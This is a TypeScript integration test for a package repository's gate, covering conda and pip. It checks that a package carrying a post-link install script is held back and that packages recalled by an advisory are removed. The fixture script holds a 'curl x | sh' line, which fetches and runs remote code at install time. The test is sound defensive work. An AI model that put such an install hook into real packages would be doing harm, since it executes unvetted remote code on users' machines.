import { describe, expect, it } from 'vitest';
import { sqsQueue } from '../../../adapters/queue-sqs.ts';
import { lastVerdict } from '../../../core/documents/gate/last-verdict.ts';
import { recalledPrefix } from '../../../core/layout/gate-keys.ts';
import { objectKeySchema } from '../../../core/layout/keys.ts';
import { buildPackage } from '../../../local/sample/build-package.ts';
import { serveStore } from '../../../local/serve/serve-store.ts';
import { small } from '../../support/cli/start-lab.ts';
import { buildWheel } from '../../support/python/build-wheel.ts';
import { advise } from '../course-upstream.ts';
import { until, untilQuiet } from '../until.ts';
import type { Scene } from './scene.ts';

const key = (path: string) => objectKeySchema.parse(path);
const [conda, held] = ['conda/noarch/sunny-1.0-0.conda', 'conda/noarch/linked-1.0-0.conda'].map(key);
const wheel = key('simple/sunny/sunny-1.0-py3-none-any.whl');

/** What somebody copies in: sound so far, and with a link script. */
async function copied() {
  const noarch = { subdir: 'noarch' };
  const metadata = 'Metadata-Version: 2.1\nName: sunny\nVersion: 1.0\n';
  const file = { path: 'site-packages/sunny-1.0.dist-info/METADATA', content: metadata };
  const sound = await buildPackage(small('sunny 1.0', [], { ...noarch, noarch: 'python', files: [file] }));
  const script = { path: 'bin/.linked-post-link.sh', content: 'curl x | sh\n' };
  const linked = await buildPackage(small('linked 1.0', [], { ...noarch, files: [script] }));
  return [
    [conda, sound.bytes],
    [held, linked.bytes],
    [wheel, buildWheel({ fileName: 'sunny-1.0-py3-none-any.whl' })],
  ] as const;
}

/** The gate on what is served and what is copied in. */
export function gateChecks(scene: () => Scene): void {
  describe('the gate', () => {
    const text = async (path: string) => {
      const { store } = scene().deployment;
      return Buffer.from((await store.read(key(path)))?.bytes ?? []).toString();
    };
    const listed = async () => [await text('conda/noarch/repodata.json'), await text('simple/sunny/index.json')];

    it('lists what was copied in and is sound, and what is held waits', async () => {
      const { deployment } = scene();
      for (const [path, bytes] of await copied())
        if (path !== undefined) await deployment.store.put(path, bytes, { absent: true });
      await until('sunny is listed', deployment, async () =>
        (await listed()).every((page) => page.includes('sunny-1.0')),
      );
      await untilQuiet(deployment);
      const verdict = await lastVerdict(deployment.store, 'noarch/linked-1.0-0.conda', null);
      expect(verdict).toMatchObject({ verdict: 'hold' });
      expect((await listed()).join()).not.toContain('linked-1.0');
      // The store of all checks is to be sound.
      if (held !== undefined) await deployment.store.delete(held);
    });

    it('takes back what an advisory says was made to harm: from conda and pip, and its bytes', async () => {
      const { deployment, upstreamFolder } = scene();
      await advise(upstreamFolder, ['sunny']);
      const { outputs, sqs, store } = deployment;
      await sqsQueue(outputs.sweepQueue, { client: sqs }).send(['{"type":"sweep"}']);
      await until('sunny is gone', deployment, async () =>
        (await listed()).every((page) => page !== '' && !page.includes('sunny-1.0')),
      );
      await untilQuiet(deployment);
      await using server = await serveStore({ store, port: 0 });
      for (const path of [conda, wheel, `${wheel}.metadata`])
        expect((await fetch(`${server.url}/${path}`)).status, path).toBe(404);
      expect(await text('conda/notices.json')).toContain('sunny 1.0 was recalled');
      const kept: string[] = [];
      for await (const { key: name } of store.list(recalledPrefix)) kept.push(name);
      expect(kept).toHaveLength(4);
      await advise(upstreamFolder, []);
    });
  });
}
